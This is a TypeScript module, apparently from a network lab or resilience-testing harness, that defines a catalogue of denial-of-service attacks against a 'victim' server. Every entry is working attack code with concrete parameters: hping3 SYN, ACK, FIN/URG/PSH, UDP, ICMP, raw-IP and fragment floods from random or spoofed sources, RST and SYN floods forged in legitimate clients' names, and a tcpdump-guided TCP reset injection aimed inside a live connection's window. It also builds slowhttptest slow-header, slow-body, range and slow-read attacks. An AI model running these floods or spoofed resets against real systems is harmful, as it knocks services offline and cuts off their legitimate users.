// The attacks: which tool does what, for how long, and how fast.

import { address, attackersAddress, guestsAddress, type Victim } from "./victim.ts";

/** One attack: runs for so many seconds; a flood sends a packet every `intervalUs`. */
export type Attack = (victim: Victim, seconds: number, intervalUs: number) => Promise<string>;

/** Connections of a slow attack: more than a server has by default, all within two seconds. */
const slowConnections = 1500;
const slowRate = 1000;

function flood(...more: string[]): Attack {
  return (victim, seconds, intervalUs) => {
    const hping = ["hping3", "-q", "-n", "-i", `u${intervalUs}`, ...more, address].join(" ");
    // hping3 ends by an interrupt, and with a status of its own.
    return victim.run("sh", "-c", `timeout -s INT ${seconds} ${hping}; true`);
  };
}

function slow(...mode: string[]): Attack {
  const amount = ["-c", `${slowConnections}`, "-r", `${slowRate}`, "-p", "3"];
  return (victim, seconds) => {
    const target = ["-l", `${seconds}`, "-u", `http://${address}/`];
    return victim.run("slowhttptest", ...amount, ...target, ...mode);
  };
}

/** A guest's request is the one thing of this length that goes to the server. */
const requestLength = 31;
const textLength = "ip[2:2] - ((ip[0] & 0xf) << 2) - ((tcp[12] & 0xf0) >> 2)";
/** One, as tcpdump shows it: port, and where it ends. */
const request = /\.(\d+) > .* seq \d+:(\d+),/;

/**
 * RST for a connection that exists, at a number inside its window: all that an attacker can guess.
 * Only the exact number may end it (RFC 5961 §3.2).
 */
const resetInside: Attack = async (victim, seconds, intervalUs) => {
  const filter = `src host ${guestsAddress} and dst port 80 and ${textLength} = ${requestLength}`;
  // The first one: while a busy machine waits for more of them, the visit may be over.
  const show = ["tcpdump", "-nn", "-S", "-l", "-c", "1", "-i", victim.network.device, filter];
  const shown = await victim.run("timeout", "30", ...show);
  const seen = request.exec(shown);
  if (!seen) throw new Error(`no guest has asked anything:\n${shown}`);
  const [, port, end] = seen;
  const name = ["-R", "-a", guestsAddress, "-s", port!, "-k", "-p", "80"];
  return flood(...name, "-M", `${(Number(end) + 4000) % 2 ** 32}`)(victim, seconds, intervalUs);
};

const web = ["-p", "80"];
const strangers = ["--rand-source", ...web];

/** All of them, by name. */
export const attacks: Readonly<Record<string, Attack>> = {
  "SYN from everywhere": flood("-S", ...strangers),
  // Each source port in turn: the guests' connections are among those that it tries to end.
  "RST in the guests' name": flood("-R", "-a", guestsAddress, ...web),
  "RST inside a guest's window": resetInside,
  "SYN in the guests' name": flood("-S", "-a", guestsAddress, ...web),
  "ACK from everywhere": flood("-A", ...strangers, "-d", "200"),
  "FIN, URG and PSH from everywhere": flood("-F", "-U", "-P", ...strangers, "-d", "1000"),
  "UDP to closed ports": flood("--udp", "-a", attackersAddress, "-p", "++1", "-d", "500"),
  "ICMP echo": flood("--icmp", "-a", attackersAddress, "-d", "1000"),
  "an IP protocol that is none": flood("--rawip", "-H", "255", "--rand-source", "-d", "100"),
  fragments: flood("-S", ...strangers, "-f", "-d", "100"),
  "slow heads": slow("-H", "-i", "1", "-x", "24"),
  "slow content": slow("-B", "-i", "1", "-s", "8192", "-x", "10"),
  "many ranges": slow("-R", "-a", "1", "-b", "3000"),
  "slow readers": slow("-X", "-w", "10", "-y", "20", "-n", "1", "-z", "16", "-k", "3"),
};
